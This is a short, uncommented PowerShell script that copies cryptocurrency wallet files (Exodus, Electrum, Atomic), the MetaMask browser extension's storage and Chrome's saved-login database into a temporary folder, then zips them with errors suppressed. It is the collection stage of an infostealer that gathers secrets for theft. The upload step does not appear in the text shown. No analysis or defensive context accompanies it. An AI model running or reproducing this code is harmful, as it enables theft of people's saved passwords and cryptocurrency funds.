$dst = Join-Path $env:TEMP "wbk"
New-Item -ItemType Directory -Force -Path $dst | Out-Null
$src = @(
  "$env:APPDATA\Exodus\exodus.wallet",
  "$env:APPDATA\Electrum\wallets",
  "$env:APPDATA\atomic\Local Storage\leveldb",
  "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Local Extension Settings\nkbihfbeogaeaoehlefnkodbefgpgknn",
  "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"
)
foreach ($s in $src) { if (Test-Path $s) { Copy-Item $s -Destination $dst -Recurse -Force -ErrorAction SilentlyContinue } }
Compress-Archive -Path "$dst\*" -DestinationPath "$env:TEMP\wbk.zip" -Force
